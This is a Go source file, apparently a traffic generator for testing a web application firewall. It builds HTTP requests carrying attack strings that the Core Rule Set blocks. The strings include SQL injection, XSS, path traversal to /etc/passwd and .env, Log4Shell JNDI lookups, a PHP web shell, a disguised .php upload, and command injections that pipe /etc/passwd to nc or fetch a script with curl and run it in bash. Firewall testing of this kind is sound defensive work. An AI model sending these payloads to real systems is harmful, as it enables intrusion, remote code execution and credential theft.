package traffic

import (
	"bytes"
	"fmt"
	"mime/multipart"
	"net/textproto"
	"net/url"
)

// attack is a harmless request with something in it that the Core Rule Set refuses at its first paranoia level.
func (v *values) attack(i int) *message {
	m := attacks[i%len(attacks)](v)
	m.attack = true
	return m
}

// attacks are one of each kind.
var attacks = []func(v *values) *message{
	// SQL
	query("q", func(v *values) string { n := v.number(1, 999); return "shoes' OR " + n + "=" + n + "--" }),
	query("id", func(v *values) string {
		return "-" + v.number(1, 99) + " UNION SELECT name, password FROM users WHERE id=" + v.number(1, 99) + "--"
	}),
	form("comment", func(v *values) string { return v.sentence() + "'; DROP TABLE orders; SELECT " + v.number(1, 99) + "--" }),
	jsonValue(func(v *values) string { return "1 AND SLEEP(" + v.number(3, 20) + ")#" }),
	cookie(func(v *values) string {
		return "track=x' AND " + v.number(1, 9) + "=(SELECT COUNT(*) FROM tabname)-- -"
	}),
	// scripts
	query("q", func(v *values) string { return "<script>alert(" + v.number(1, 999) + ")</script>" }),
	form("comment", func(v *values) string { return v.sentence() + `<svg/onload=fetch("` + v.url() + `")>` }),
	jsonValue(func(v *values) string { return v.sentence() + ` <img src=x onerror=alert(` + v.number(1, 999) + `)>` }),
	form("website", func(v *values) string { return "javascript:alert(document.cookie+" + v.number(1, 99) + ")" }),
	// files
	query("file", func(v *values) string { return "../../../../../../etc/passwd" }),
	path(func(v *values) string { return "/" + v.slug() + "/%2e%2e/%2e%2e/%2e%2e/etc/shadow" }),
	path(func(v *values) string { return "/" + v.slug() + "/.git/config" }),
	path(func(v *values) string { return "/.env?" + pairs("v", v.number(1, 999)) }),
	query("page", func(v *values) string {
		return "http://10.0." + v.number(0, 255) + "." + v.number(1, 254) + "/shell.txt?"
	}),
	// commands
	query("host", func(v *values) string { return "127.0.0.1; cat /etc/passwd | nc 10.0.0." + v.number(1, 254) + " 4444" }),
	form("name", func(v *values) string { return "$(curl http://10.1.2." + v.number(1, 254) + "/x.sh | bash)" }),
	jsonValue(func(v *values) string {
		return "`wget http://10.1.2." + v.number(1, 254) + "/a -O /tmp/a; chmod +x /tmp/a`"
	}),
	header("User-Agent", func(v *values) string { return "() { :; }; /bin/bash -c 'ping 10.0.0." + v.number(1, 254) + "'" }),
	// code
	header("X-Api-Version", func(v *values) string { return "${jndi:ldap://10.0.0." + v.number(1, 254) + "/a}" }),
	jsonValue(func(v *values) string {
		return "${${lower:j}ndi:${lower:l}dap://" + v.of(webHosts) + "/" + v.hex(6) + "}"
	}),
	form("template", func(v *values) string { return "<?php system($_GET['" + v.hex(4) + "']); ?>" }),
	query("file", func(v *values) string { return "php://filter/convert.base64-encode/resource=index" + v.number(1, 99) }),
	jsonValue(func(v *values) string { return "java.lang.Runtime.getRuntime().exec('id " + v.number(1, 99) + "')" }),
	query("x", func(v *values) string {
		return "process.mainModule.require('child_process').exec('id " + v.number(1, 99) + "')"
	}),
	uploaded,
	// programs that look for holes
	header("User-Agent", func(v *values) string { return "sqlmap/1." + v.number(1, 9) + "#stable (https://sqlmap.org)" }),
	header("User-Agent", func(v *values) string {
		return "Mozilla/5.00 (Nikto/2." + v.number(1, 5) + ".0) (Test:" + v.number(1, 9999) + ")"
	}),
	header("User-Agent", func(v *values) string {
		return "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) " + v.hex(4)
	}),
}

func query(name string, value func(*values) string) func(*values) *message {
	return func(v *values) *message {
		return &message{method: "GET", headers: v.browser(), target: "/search?" + pairs("page", v.number(1, 20), name, value(v), "lang", v.of(languages))}
	}
}

func path(value func(*values) string) func(*values) *message {
	return func(v *values) *message { return &message{method: "GET", headers: v.browser(), target: value(v)} }
}

func header(name string, value func(*values) string) func(*values) *message {
	return func(v *values) *message {
		m := v.page()
		m.set(name, value(v))
		return m
	}
}

func cookie(value func(*values) string) func(*values) *message {
	return header("Cookie", func(v *values) string { return v.cookies() + "; " + value(v) })
}

func form(name string, value func(*values) string) func(*values) *message {
	return func(v *values) *message {
		return &message{
			method: "POST", target: "/contact", headers: v.browser(), contentType: "application/x-www-form-urlencoded",
			body: []byte(pairs("from", v.email(), "subject", v.product(), name, value(v), "token", v.hex(32))),
		}
	}
}

func jsonValue(value func(*values) string) func(*values) *message {
	return func(v *values) *message {
		return v.post("/api/v2/reviews", object{"product": v.uuid(), "stars": v.between(1, 5), "by": v.name(), "text": value(v)})
	}
}

// uploaded is a program where a picture is expected.
func uploaded(v *values) *message {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	// A buffer takes everything; the boundary is random unless it is set.
	_ = w.SetBoundary("----WebKitFormBoundary" + v.hex(16))
	_ = w.WriteField("title", v.product())
	part, _ := w.CreatePart(textproto.MIMEHeader{
		"Content-Disposition": {fmt.Sprintf(`form-data; name="file"; filename="%s.php"`, url.PathEscape(v.slug()))},
		"Content-Type":        {"image/jpeg"},
	})
	_, _ = part.Write(v.bytes(200))
	_ = w.Close()
	return &message{
		method: "POST", target: "/account/files", headers: v.browser(), contentType: w.FormDataContentType(), body: b.Bytes(),
	}
}
